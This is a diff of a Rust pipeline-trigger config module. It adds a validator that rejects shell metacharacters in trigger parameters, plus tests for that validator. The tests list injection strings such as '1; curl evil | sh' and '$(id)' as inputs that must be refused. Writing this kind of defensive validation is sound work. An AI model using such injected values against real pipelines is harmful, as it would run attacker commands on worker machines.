@@ -140,6 +140,22 @@ pub fn next_fire(schedule: &croner::Cron, after_ms: i64) -> Option<i64> {
         .map(|next| next.and_utc().timestamp_millis())
 }
 
+impl Trigger {
+    /// Refuses parameter values a shell would read as more than a word. A pipeline fills them
+    /// into its steps' commands as they are, and the worker runs those commands as its own user
+    /// on its own machine: whoever may apply triggers must not be able to run a command there.
+    pub fn check_params(&self) -> Result<()> {
+        let plain = |c: char| c.is_ascii_alphanumeric() || "._,:/=+@%-".contains(c);
+        if let Some((key, value)) = self.params.iter().find(|(_, v)| !v.chars().all(plain)) {
+            return Err(Error::invalid(format!(
+                "trigger '{}': param {key}={value:?} holds characters a shell reads as more than a word; a trigger's params are letters, digits and ._,:/=+@%-",
+                self.name
+            )));
+        }
+        Ok(())
+    }
+}
+
 impl TriggerConfig {
     pub fn validate(&self) -> Result<()> {
         if self.triggers.len() > MAX_TRIGGERS {
@@ -204,6 +220,7 @@ impl TriggerConfig {
                     "trigger '{name}': at most 100 params of 1,024 characters"
                 )));
             }
+            t.check_params()?;
             if let Some(schedule) = &t.on.schedule {
                 parse_schedule(schedule)
                     .map_err(|e| Error::invalid(format!("trigger '{name}': {e}")))?;
@@ -601,6 +618,17 @@ mod tests {
         let mut bad = good.clone();
         bad.triggers.push(trigger());
         assert!(bad.validate().unwrap_err().to_string().contains("twice"));
+        for injected in ["1; curl evil | sh", "$(id)", "`id`", "a b", "x\ny", "'q'"] {
+            let mut bad = good.clone();
+            bad.triggers[0].params.insert("n".into(), injected.into());
+            let error = bad.validate().unwrap_err().to_string();
+            assert!(error.contains("more than a word"), "{injected}: {error}");
+        }
+        let mut fine = good.clone();
+        fine.triggers[0]
+            .params
+            .insert("n".into(), "s3://bucket/a-b_c.csv,0.5".into());
+        fine.validate().unwrap();
         let parsed: TriggerConfig = serde_json::from_value(serde_json::json!({"triggers": [{
             "name": "t", "model": "m", "pipeline": "p.yml", "model_path": "model",
             "gate": {"label": "y"}, "cooldown": "30m"}]}))
